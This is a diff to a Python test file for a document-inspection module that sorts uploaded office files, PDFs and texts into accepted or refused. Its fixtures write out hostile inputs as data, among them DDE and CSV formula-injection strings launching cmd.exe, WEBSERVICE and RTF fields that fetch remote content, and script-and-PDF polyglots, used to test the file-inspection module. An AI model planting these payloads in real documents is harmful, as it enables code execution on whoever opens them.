@@ -12,7 +12,7 @@ from pypdf.actions import JavaScript
 
 from documents.file_kinds import FileKind, Unfit, kind_of
 from documents.file_names import safe_name
-from documents.sniffing import PROBLEMS, Verdict, inspect
+from documents.sniffing import KINDS, PROBLEMS, Verdict, inspect
 from tests.documents import office_files as files
 from tests.tenants.importing import shared
 
@@ -115,6 +115,11 @@ def test_a_script_is_known_by_its_suffix_where_its_text_says_nothing() -> None:
     assert inspect(b"del c:", "xoa.bat").kind == FileKind.SCRIPT
 
 
+def macro_sheet() -> bytes:
+    """Excel 4 kept macros in a sheet (MS-XLS 2.4.28, dt)."""
+    return files.compound(Workbook=files.biff(files.WORKBOOK[0], (0x85, bytes(5) + b"\x01\x01\0A"), (0x0A, b"")))
+
+
 def macro_document() -> bytes:
     return files.docx(main="document", **{"word__vbaProject.bin": b"x"})
 
@@ -138,13 +143,104 @@ def test_harmless_files_of_every_day_come_in() -> None:
 
 
 @pytest.mark.parametrize(
+    "make",
+    [
+        lambda: files.encrypted_pdf("", owner="chủ"),
+        lambda: b"\x1b%-12345X@PJL\r\n" + files.pdf(),
+        lambda: b"\0" * 128 + files.pdf(),
+        lambda: files.docx() + bytes(12) + b"\r\n",
+        lambda: files.xlsx([["=SUM(A2:A9)", '=HYPERLINK("https://example.vn","cmd|a!b")', "='Thu | chi'!A1", '=IF(A1="RTD(","","|!")']]),
+        lambda: files.docx(**{"word__embeddings__a.xlsx": files.xlsx([["a"]]), "word__b.bin": files.compound("Workbook"), "word__a.svg": "<svg/>"}),
+        lambda: files.written(lambda writer: writer.add_uri(0, "https://example.vn", (0, 0, 9, 9))),
+        lambda: files.docx(rels=(("hyperlink", "https://example.vn", "External"),), **{"_xmlsignatures__sig1.xml": "<Signature/>"}),
+    ],
+)  # fmt: skip
+def test_what_harms_nobody_comes_in_as_content(make: Any) -> None:
+    found = inspect(make(), "tai lieu.pdf")
+    assert (found.verdict, found.problem) == (Verdict.CONTENT, ""), found.words
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Điền vào <form đăng ký>, <title của văn bản>; nếu a<b thì <div>".replace("<div>", "c>d"),
+        "BM.01 Biểu mẫu", "MZ là mã vùng", "ID3 là thẻ", "From: An\nSubject: họp\n\nKính gửi", "a|b|'c'!\n- x | 'y'!",
+        "họ tên,số\nAn,=A1+B1\n", "dòng cuối của DOS\x1a", "Rem là một từ".replace("Rem ", "Rèm "),
+    ],
+)  # fmt: skip
+def test_texts_of_every_day_are_plain_text(text: str) -> None:
+    for encoding in ("utf-8", "utf-16", "utf-16-le"):
+        found = inspect(text.encode(encoding), "a.txt")
+        assert (found.kind, found.verdict) == (FileKind.TEXT, Verdict.ATTACHMENT), encoding
+
+
+@pytest.mark.parametrize(
+    ("data", "kind"),
+    [
+        (b"word " * 30_000 + b"<script>alert(1)</script>", "html"),
+        ("<html><body>".encode("utf-16-le"), "html"),
+        (b"Received: from a\r\nFrom: b\r\nSubject: c\r\n\r\nd", "mail"),
+        (b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>', "office_xml"),
+        (b"<?php echo 1;", "script"),
+        (b"[InternetShortcut]\r\nURL=http://a", "script"),
+        (b"\0\0\0\x18ftypheic\0\0", "picture"),
+        (b"\0\0\0\x18ftypisom\0\0", "media"),
+        (b"RIFF\x24\0\0\0WAVEfmt ", "media"),
+        (b"GIF89a\x01\0\x01\0" + bytes(60), "picture"),
+        (b"L\0\0\0\x01\x14\x02\0" + bytes(60), "program"),
+        (files.compound("PowerPoint Document"), "slides"),
+        (files.compound("__properties_version1.0"), "mail"),
+        (files.zipped({"[Content_Types].xml": "presentationml.presentation.main+xml"}), "slides"),
+        (files.zipped({"[Content_Types].xml": "ms-excel.sheet.binary.macroEnabled.main"}), "other_office"),
+    ],
+)
+def test_what_is_not_taken_is_named_for_what_it_is(data: bytes, kind: str) -> None:
+    found = inspect(data, "a.doc")
+    assert (found.kind, found.is_refused) == (kind, True)
+    assert str(KINDS[kind]) in found.words
+
+
+def test_an_old_format_comes_in_and_that_it_is_not_found_is_said() -> None:
+    for data in (files.doc(), files.compound("Workbook")):
+        assert "will not be found" in inspect(data, "a.doc" if data == files.doc() else "a.xls").notes[0]
+
+
+@pytest.mark.parametrize(
     ("make", "problem"),
     [
         (files.encrypted_pdf, "encrypted"),
-        (lambda: files.encrypted_pdf(""), "encrypted"),
         (lambda: files.compound("EncryptedPackage"), "kind"),
         (lambda: files.odt("", manifest='<file-entry><encryption-data checksum="x"/></file-entry>'), "encrypted"),
         (macro_document, "macros"),
+        (lambda: files.compound(Workbook=files.biff(files.WORKBOOK[0], (0x2F, bytes(54)))), "encrypted"),
+        (macro_sheet, "macros"),
+        (lambda: files.compound("Padding", WordDocument=b"\xec\xa5" + bytes(9) + b"\x01"), "encrypted"),
+        (lambda: files.compound(WordDocument=b"\xec\xa5" + bytes(600) + b"\x13 DDEAUTO c:\\cmd.exe \x14"), "active"),
+        (lambda: files.compound("WordDocument")[:1600], "broken"),
+        (lambda: files.docx(rels=(("aFChunk", "a.htm", ""),), **{"word__a.htm": "<html>"}), "page_inside"),
+        (lambda: files.docx(rels=(("aFChunk", "a.docx", ""),)), "page_inside"),
+        (lambda: files.docx(**{"word__embeddings__a.bin": files.zipped({"a.txt": "a"})}), "program"),
+        (lambda: JPEG[:4] + b"<html><script>" + JPEG[4:], "two_in_one"),
+        (lambda: files.docx(**{"word__embeddings__a.py": "import os"}), "program"),
+        (lambda: files.docx(**{"word__embeddings__a.bin": b"#!/bin/sh"}), "program"),
+        (lambda: files.docx(**{"word__embeddings__a.bin": macro_sheet()}), "macros"),
+        (lambda: files.xlsx([['=WEBSERVICE("http://example.vn/"&A1)']]), "fetches"),
+        (lambda: files.xlsx([["=_xlfn.WEBSERVICE(A1)"]]), "fetches"),
+        (lambda: files.xlsx([["=cmd|'/c calc'!A0"]]), "active"),
+        (lambda: b"{\\rtf1{\\object{\\*\\obj\r\ndata 0105}}}", "active"),
+        (lambda: b"{\\rtf1{\\field{\\*\\fldinst {DDE}{AUTO c:\\\\cmd.exe}}{\\fldrslt a}}}", "active"),
+        (lambda: b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "http://example.vn/a.png"}}}', "fetches"),
+        (lambda: b'{\\rtf1{\\field{\\*\\fldinst INCLUDETEXT "\\\\\\\\may\\\\a.docx"}}}', "fetches"),
+        (lambda: b"\xef\xbb\xbf=cmd|'/c calc'!A0", "active"),
+        (lambda: "a;=WEBSERVICE(\"http://a\")".encode("utf-16"), "fetches"),
+        (lambda: b"ten,so\n\"=cmd|'/c calc'!A0\",1\n", "active"),
+        (files.calling_pdf, "active"),
+        (lambda: files.calling_pdf(of_page=True), "active"),
+        (files.fetching_pdf, "fetches"),
+        (lambda: b"@echo off\n" + files.pdf(), "two_in_one"),
+        (lambda: b"<script>alert(1)</script>" + files.pdf(), "two_in_one"),
+        (lambda: files.pdf() + bytes(30) + files.zipped({"a.txt": "a"}), "two_in_one"),
+        (lambda: b"GIF89a;alert(1)//", "two_in_one"),
         (lambda: files.docx(main="macroEnabled"), "kind"),
         (lambda: files.doc("_VBA_PROJECT"), "macros"),
         (lambda: files.odt("", Basic__Standard__Module1="<x/>"), "macros"),
@@ -204,6 +300,22 @@ def test_a_signed_pdf_comes_in_and_that_is_said() -> None:
     found = inspect(files.signed_pdf(), "van ban.pdf")
     assert found.is_content
     assert "digital signature" in found.notes[0]
+
+
+def test_a_picture_left_on_the_disk_of_its_author_is_told() -> None:
+    found = inspect(files.docx(rels=(("image", "file:///C:\\Temp\\clip_image001.png", "External"),)), "a.docx")
+    assert (found.verdict, found.marks) == (Verdict.CONTENT, ("elsewhere",))
+
+
+def test_an_old_office_file_damaged_at_any_place_is_named_and_never_an_error_of_ours() -> None:
+    for whole in (files.doc(), files.compound("Workbook", "Padding")):
+        said = {
+            _said_of(whole[:place] + bytes([sign]) + whole[place + 1 :])
+            for place in range(0, 3000, 7)
+            for sign in (0, 255, 127)
+        }
+        said |= {_said_of(whole[:place]) for place in range(0, len(whole), 100)}
+        assert {"broken"} < said <= {*FileKind, *PROBLEMS}
 
 
 def test_ordinary_hyperlinks_hurt_nobody() -> None:
